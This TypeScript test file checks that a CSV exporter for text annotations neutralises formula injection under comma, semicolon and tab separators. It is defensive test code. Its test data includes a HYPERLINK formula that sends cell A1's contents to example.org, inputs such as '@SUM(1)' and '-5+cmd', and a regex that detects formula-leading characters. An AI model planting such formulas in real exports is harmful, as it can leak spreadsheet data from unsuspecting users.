import assert from 'node:assert/strict';
import fc from 'fast-check';
import { csv } from '../../../../src/core/exchange/csv';
import { readCsv, textOfCell } from '../../support/readAnnotations';

const options = { numRuns: Number(process.env.RUNS ?? 3000) };
const hardText = fc.string({
  unit: fc.constantFrom(...'=+-@＝\'";,\t\r\n 5x'),
  maxLength: 12,
});

describe('cells of a table', () => {
  it('are not formulas, with any separator that the reader uses', () => {
    fc.assert(
      fc.property(hardText, hardText, (id, text) => {
        const annotation = { start: 0, end: 1, text, kind: 'drug', entity: 'x', ids: ['HGNC:1'] };
        const table = csv.head + csv.write({ id, text, annotations: [annotation] });
        for (const separator of ',;\t') {
          for (const cell of cellsOf(table, separator)) {
            assert.doesNotMatch(cell, /^(?!-\d+$)(?:[\t\r\n]|\s*[=+\-@＝＋－＠])/, separator);
          }
        }
        assert.deepEqual(readCsv(table), new Map([[id, [annotation]]]));
      }),
      options,
    );
  });

  it('give back their text, and are changed only if necessary', () => {
    fc.assert(
      fc.property(hardText, (text) => assert.equal(textOfCell(idCell(text)), text)),
      options,
    );
    const row = csv.write({
      id: '-5',
      text: '-5',
      annotations: [{ start: 0, end: 2, text: '-5', kind: 'drug', entity: 'x', ids: [] }],
    });
    assert.equal(row, "'-5,0,2,0,2,-5,drug,x,\r\n");
    const link = '=HYPERLINK("http://example.org/?"&A1;"IL-6")';
    assert.equal(idCell(link), `'${link}`);
    for (const plain of ['IL-6', "'quoted'", 'a = b', 'x;y', '']) {
      assert.equal(idCell(plain), plain);
    }
    for (const cell of [
      '-1β',
      '+5',
      '@SUM(1)',
      ' =1',
      '\t=1',
      "'=1",
      'x;=1',
      '"=1"',
      '-5+cmd',
      'IL-4,\n-5',
    ]) {
      assert.notEqual(idCell(cell), cell);
    }
  });
});

/** The cell that a table has for the id of a text. */
function idCell(id: string): string {
  const annotation = { start: 0, end: 1, text: 'x', kind: 'drug', entity: 'x', ids: [] };
  return cellsOf(csv.write({ id, text: 'x', annotations: [annotation] }), ',')[0] ?? '';
}

/** The cells as a spreadsheet reads them; it interprets quotation marks only at the beginning of a cell. */
function cellsOf(table: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let isQuoted = false;
  let isNew = true;
  for (let at = 0; at < table.length; at++) {
    const unit = table.charAt(at);
    if (isQuoted && unit === '"' && table.charAt(at + 1) === '"') {
      cell += '"';
      at++;
    } else if (unit === '"' && (isQuoted || isNew)) {
      isQuoted = !isQuoted;
      isNew = false;
    } else if (!isQuoted && (unit === separator || unit === '\r' || unit === '\n')) {
      cells.push(cell);
      [cell, isNew] = ['', true];
    } else {
      cell += unit;
      isNew = false;
    }
  }
  return [...cells, cell];
}
